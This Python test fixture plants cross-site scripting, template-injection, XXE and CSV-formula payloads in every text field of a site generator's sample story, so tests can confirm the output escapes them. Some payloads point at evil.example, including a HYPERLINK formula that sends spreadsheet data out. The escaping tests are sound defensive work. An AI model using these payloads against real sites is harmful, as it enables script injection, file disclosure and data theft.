"""A copy of the reference story with hostile text in every text field (tests only).

`hostile_story(dest)` writes it beside a copy of the sources and returns the content
path and the placements: which field holds which payload, and where the page shows it.
Used by test_injection.py; kept apart so the payloads are easy to read and extend.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from explainer.content.yamlsource import load
from tests.conftest import copy_story

SCRIPT = "<script>alert(1)</script>"
CHARTS = ("headline", "chain", "scale", "crowd", "clients_waffle", "money", "where")

#: Payloads for plain-text fields (titles, labels, notes, names...): each must come out
#: as the same text, never as markup, in the page, the SVG, JSON-LD and the CSV.
PAYLOADS: dict[str, str] = {
    "script": SCRIPT,
    "img-onerror": "<img src=x onerror=alert(1)>",
    "handler": '<b onmouseover=alert(1) onclick="alert(1)">hover</b>',
    "svg-onload": "<svg onload=alert(1)>",
    "style-breakout": "</style><script>alert(1)</script>",
    "script-breakout": "</script><script>alert(1)</script>",
    "css": '<p style="width:expression(alert(1));background:url(javascript:alert(1))">css</p>',
    "jinja": "{{ 7*7 }} {% if 1 %}jinja{% endif %} {# c #} {{ self.__init__.__globals__ }}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62; &nbsp;",
    "bidi": "\u202egnp.exe\u202c zero\u200bwidth\u200c\u200d\u2060joiner\ufeff",
    "long": ("lorem ipsum dolor " * 120).strip(),
    "attr-double": '" onmouseover="alert(1)" x="',
    "attr-breakout": '"><script>alert(1)</script>',
    "attr-single": "' onfocus='alert(1)' autofocus x='",
    "backticks": "`alert(1)` ``${alert(1)}``",
    "comment": "<!-- <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "iframe": '<iframe src="https://evil.example/frame"></iframe>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "plotly-link": '<a href="javascript:alert(1)">link</a>',
    "plotly-style": '<span style="font-size:300px">big</span><br><sup>up</sup>',
    "mathjax": "$\\alert{1}$",
    "template-literal": "${alert(1)} #{alert(1)} %s %(x)s {0} {viewers}",
    "line-separators": "a\u2028b\u2029c",
    "object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    "form": (
        '<form action="https://evil.example/"><button formaction=javascript:alert(1)>go'
        "</button></form>"
    ),
    "xxe": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    "csv-formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
}

#: Markdown in a section body: links and images with other schemes, raw HTML, autolinks.
MARKDOWN = """\
Links: [js](javascript:alert(1)), [JS](JaVaScRiPt:alert(1)), [enc](&#106;avascript:alert(1)),
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==), [vb](vbscript:msgbox(1)),
[proto](//evil.example/x), [back](\\\\evil.example\\x), [file](file:///etc/passwd),
[t](https://example.org/ok "title\\" onmouseover=\\"alert(1)"), [ref link][evil],
[{viewers}](javascript:alert(1)), <javascript:alert(1)>, <data:text/html,alert(1)>.

![pixel](https://evil.example/pixel.png) ![local](x.png)

Raw: <script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)>
<a href="javascript:alert(1)">a</a> <iframe src="https://evil.example/"></iframe>

Jinja {{{{ 7*7 }}}} stays, entities &lt;script&gt; decode, code `<script>alert(1)</script>`.

```
</code></pre><script>alert(1)</script>
```

[evil]: javascript:alert(1)
"""

#: Strings the page must show, as text, from MARKDOWN (markdown decodes the entities).
MARKDOWN_SHOWN = (
    "[js](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)>",
    "Jinja {{ 7*7 }} stays, entities <script> decode",
    "</code></pre><script>alert(1)</script>",
)


@dataclass(frozen=True)
class Placement:
    """One text field holding a payload, and where the built site shows it."""

    field: str
    payload: str  # a key of PAYLOADS
    #: The text as written in the content, per locale.
    text: dict[str, str]
    #: CSS selector of the element(s) of a locale page that show it (None: not shown there).
    selector: str | None
    #: Chart ids whose images show it.
    charts: tuple[str, ...] = ()


def _text(field: str, payload: str) -> dict[str, str]:
    body = PAYLOADS[payload]
    return {loc: f"[{loc} {field}] {SCRIPT} {body}" for loc in ("it", "en")}


def _by_id(items: list[dict[str, Any]], ident: str) -> dict[str, Any]:
    return next(item for item in items if item["id"] == ident)


def hostile_story(dest: Path) -> tuple[Path, list[Placement]]:
    """The reference story with payloads in every text field; (content path, placements)."""
    content = copy_story(dest)
    data, _ = load(content.read_text(encoding="utf-8"), "content.yaml")
    placements: list[Placement] = []

    def put(
        target: dict[str, Any],
        key: str,
        field: str,
        payload: str,
        selector: str | None,
        charts: tuple[str, ...] = (),
    ) -> None:
        text = _text(field, payload)
        target[key] = text
        placements.append(Placement(field, payload, text, selector, charts))

    story = data["story"]
    put(story, "title", "story.title", "attr-breakout", "h1")
    put(story, "standfirst", "story.standfirst", "script-breakout", "p.standfirst")
    put(story, "byline", "story.byline", "style-breakout", "p.byline")
    put(story, "credits", "story.credits", "comment", "footer.credits p")
    story["base_url"] = 'https://example.org/x/"><script>alert(1)</script>/'

    people = data["units"]["people"]
    people["it"] = ["persona <b>", f"persone {SCRIPT}"]
    people["en"] = ["person <b>", f"people {SCRIPT}"]

    def put_plain(
        target: dict[str, Any],
        key: str,
        field: str,
        payload: str,
        selector: str,
        charts: tuple[str, ...] = (),
    ) -> None:
        text = f"[{field}] {SCRIPT} {PAYLOADS[payload]}"
        target[key] = text
        placements.append(Placement(field, payload, {"it": text, "en": text}, selector, charts))

    source = data["sources"][0]
    put_plain(
        source, "title", "sources.article.title", "img-onerror", "#source-article cite", CHARTS
    )
    put_plain(
        source, "publisher", "sources.article.publisher", "svg-onload", "#source-article", CHARTS
    )
    source["url"] = "https://example.org/src?q=\"><script>alert(1)</script>&x='onmouseover=alert(1)"
    source["language"] = 'it"><script>alert(1)</script>'

    facts = data["facts"]
    label_payloads = {
        "viewers": ("script", ("headline", "chain", "scale", "crowd")),
        "clients": ("attr-double", ("headline", "chain", "scale", "clients_waffle")),
        "servers": ("jinja", ("headline", "chain", "scale")),
        "price_per_client": ("csv-formula", ("headline",)),
        "platforms": ("plotly-link", ("chain", "scale")),
        "clients_touched": ("plotly-style", ("clients_waffle",)),
        "revenue_one_month": ("entities", ("money",)),
        "revenue_yearly": ("mathjax", ("money",)),
        "rights_holders": ("handler", ()),
        "software_origin": ("attr-single", ()),
        "revenue_monthly": ("backticks", ()),
        "viewers_per_client": ("cdata", ()),
        "viewers_per_server": ("xxe", ()),
        "servers_per_client": ("object", ()),
    }
    for fid, (payload, charts) in label_payloads.items():
        put(
            _by_id(facts, fid),
            "label",
            f"facts.{fid}.label",
            payload,
            f"#fact-{fid} .fact-label",
            charts,
        )
    put(
        _by_id(facts, "rights_holders"),
        "text",
        "facts.rights_holders.text",
        "iframe",
        "#fact-rights_holders .fact-value",
    )
    put(
        _by_id(facts, "software_origin"),
        "text",
        "facts.software_origin.text",
        "bidi",
        "#fact-software_origin .fact-value",
    )
    put(
        _by_id(facts, "revenue_monthly"),
        "note",
        "facts.revenue_monthly.note",
        "long",
        "#fact-revenue_monthly .fact-note",
    )
    put(
        _by_id(facts, "viewers_per_client"),
        "note",
        "facts.viewers_per_client.note",
        "css",
        "#fact-viewers_per_client .fact-note",
    )
    put(
        _by_id(facts, "revenue_yearly"),
        "note",
        "facts.revenue_yearly.note",
        "line-separators",
        "#fact-revenue_yearly .fact-note",
    )
    # quotes are only checked by `explainer check`, not by a build
    put_plain(
        _by_id(facts, "viewers"),
        "quote",
        "facts.viewers.quote",
        "meta-refresh",
        "#fact-viewers blockquote",
    )
    put_plain(
        _by_id(facts, "clients"),
        "quote",
        "facts.clients.quote",
        "script",
        "#fact-clients blockquote",
    )

    places = data["places"]
    put(
        _by_id(places, "netherlands"),
        "role",
        "places.netherlands.role",
        "base",
        "#place-netherlands .place-role",
        ("where",),
    )
    put(
        _by_id(places, "france"),
        "role",
        "places.france.role",
        "stylesheet",
        "#place-france .place-role",
        ("where",),
    )
    put(
        _by_id(places, "eastern_europe"),
        "region",
        "places.eastern_europe.region",
        "form",
        "#place-eastern_europe .place-name",
        ("where",),
    )
    put(
        _by_id(places, "eastern_europe"),
        "role",
        "places.eastern_europe.role",
        "template-literal",
        "#place-eastern_europe .place-role",
        ("where",),
    )
    put_plain(
        _by_id(places, "france"),
        "quote",
        "places.france.quote",
        "line-separators",
        "#place-france blockquote",
    )

    chart_payloads = {
        "headline": ("mathjax", "template-literal"),
        "chain": ("entities", "svg-onload"),
        "scale": ("backticks", "img-onerror"),
        "crowd": ("svg-onload", "object"),
        "clients_waffle": ("script-breakout", "attr-breakout"),
        "money": ("cdata", "comment"),
        "where": ("comment", "xxe"),
    }
    for cid, (title, caption) in chart_payloads.items():
        chart = _by_id(data["charts"], cid)
        put(chart, "title", f"charts.{cid}.title", title, f"#chart-{cid} .chart-title", (cid,))
        put(
            chart,
            "caption",
            f"charts.{cid}.caption",
            caption,
            f"#chart-{cid} .chart-caption",
            (cid,),
        )

    sections = data["narrative"]
    heading_payloads = ("handler", "attr-single", "jinja", "iframe", "base", "style-breakout")
    for section, payload in zip(sections, heading_payloads, strict=True):
        put(
            section,
            "heading",
            f"narrative.{section['id']}.heading",
            payload,
            f"#section-{section['id']} h2",
        )
    intro = sections[0]["body"]
    sections[0]["body"] = {loc: f"{text}\n\n{MARKDOWN}" for loc, text in intro.items()}

    # shown once a build finds `servers` changed (the caller builds twice, see test_injection)
    put(data, "corrections", "corrections.note", "script", "section.corrections li")
    data["corrections"] = [{"fact": "servers", "note": data["corrections"]}]
    record = {
        "corrections": [
            {
                "date": "2019-09-21",
                "fact": "servers",
                "label": _text("record.label", "img-onerror"),
                "old": _text("record.old", "attr-breakout"),
                "new": _text("record.new", "script-breakout"),
                "note": _text("record.note", "svg-onload"),
            }
        ]
    }
    (content.parent / "content.corrections.json").write_text(
        json.dumps(record, ensure_ascii=False, indent=2), encoding="utf-8"
    )
    placements.append(
        Placement(
            "record.note", "svg-onload", record["corrections"][0]["note"], "section.corrections li"
        )
    )

    content.write_text(
        yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8"
    )
    return content, placements
